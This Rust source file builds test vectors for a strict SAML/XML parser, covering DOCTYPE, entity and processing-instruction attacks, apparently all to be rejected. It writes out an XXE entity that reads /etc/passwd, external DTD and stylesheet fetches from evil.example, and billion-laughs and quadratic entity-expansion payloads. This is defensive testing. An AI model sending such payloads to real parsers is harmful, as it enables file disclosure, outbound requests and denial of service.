//! DOCTYPE, entities and processing instructions (rule A3).

use super::strict_xml::{case, preceded};
use super::{Paper, Vector};
use std::fmt::Write as _;

const NAME: &str = "b.simon@contoso.com";

pub(super) fn vectors() -> Vec<Vector> {
    let named = |doctype: &str, reference: &str| {
        let paper = Paper::signed().change(NAME, reference);
        format!("{doctype}{}", paper.text())
    };
    let mut laughs = String::from("<!DOCTYPE r [<!ENTITY a0 \"ha\">");
    for level in 1..10 {
        let references = format!("&a{};", level - 1).repeat(10);
        let _ = write!(laughs, "<!ENTITY a{level} \"{references}\">");
    }
    laughs.push_str("]>");
    let quadratic = format!("<!DOCTYPE r [<!ENTITY a \"{}\">]>", "x".repeat(10_000));
    vec![
        case(
            "doctype",
            "A DOCTYPE without anything in it.",
            preceded("<!DOCTYPE Response>"),
        ),
        case(
            "doctype-internal-entity",
            "An entity of the internal subset as NameID.",
            named("<!DOCTYPE r [<!ENTITY n \"admin@contoso.com\">]>", "&n;"),
        ),
        case(
            "doctype-external-entity",
            "An entity from a file as NameID.",
            named(
                "<!DOCTYPE r [<!ENTITY n SYSTEM \"file:///etc/passwd\">]>",
                "&n;",
            ),
        ),
        case(
            "doctype-external-subset",
            "A DTD of another server.",
            preceded("<!DOCTYPE r SYSTEM \"https://evil.example/x.dtd\">"),
        ),
        case(
            "doctype-public",
            "A DTD by public identifier.",
            preceded("<!DOCTYPE r PUBLIC \"-//X//Y\" \"https://evil.example/x.dtd\">"),
        ),
        case(
            "doctype-parameter-entity",
            "A parameter entity that is fetched.",
            preceded("<!DOCTYPE r [<!ENTITY % p SYSTEM \"https://evil.example/p\"> %p;]>"),
        ),
        case(
            "doctype-default-attribute",
            "A DTD that gives the NameID's Format a default value.",
            preceded("<!DOCTYPE r [<!ATTLIST NameID Format CDATA \"x\">]>"),
        ),
        case(
            "doctype-id-attribute",
            "A DTD that declares an attribute to be an ID.",
            preceded("<!DOCTYPE r [<!ATTLIST Assertion Name ID #IMPLIED>]>"),
        ),
        case(
            "doctype-after-root",
            "A DOCTYPE after the root.",
            Paper::signed().text().to_owned() + "<!DOCTYPE r>",
        ),
        case(
            "billion-laughs",
            "Entities of entities: a billion laughs.",
            named(&laughs, "&a9;"),
        ),
        case(
            "quadratic-blow-up",
            "One long entity, many times.",
            named(&quadratic, &"&a;".repeat(1_000)),
        ),
        case(
            "entity-undeclared",
            "An entity of HTML.",
            Paper::signed().change(NAME, "b.simon&nbsp;@contoso.com"),
        ),
        case(
            "entity-without-end",
            "A reference without semicolon.",
            Paper::signed().change(NAME, "b.simon&amp@contoso.com"),
        ),
        case(
            "reference-to-nul",
            "A character reference to NUL.",
            Paper::signed().change(NAME, "b.simon@contoso.com&#0;"),
        ),
        case(
            "reference-to-control-character",
            "A character reference to U+0001.",
            Paper::signed().change(NAME, "b.simon@contoso.com&#x1;"),
        ),
        case(
            "reference-to-surrogate",
            "A character reference to a surrogate.",
            Paper::signed().change(NAME, "b.simon@contoso.com&#xD800;"),
        ),
        case(
            "reference-beyond-unicode",
            "A character reference beyond Unicode.",
            Paper::signed().change(NAME, "b.simon@contoso.com&#x110000;"),
        ),
        case(
            "reference-too-long",
            "A character reference whose number overflows.",
            Paper::signed().change(NAME, "b.simon@contoso.com&#4294967361;"),
        ),
        case(
            "processing-instruction-in-name",
            "A processing instruction in the NameID.",
            Paper::signed().change(NAME, "b.simon@contoso.com<?x?>.evil.example"),
        ),
        case(
            "processing-instruction-in-digest",
            "A processing instruction in DigestValue.",
            Paper::signed().change("</ds:DigestValue>", "<?x?></ds:DigestValue>"),
        ),
        case(
            "processing-instruction-first",
            "A stylesheet instruction before the root.",
            preceded("<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>"),
        ),
        case(
            "processing-instruction-last",
            "A processing instruction after the root.",
            Paper::signed().text().to_owned() + "<?x?>",
        ),
    ]
}
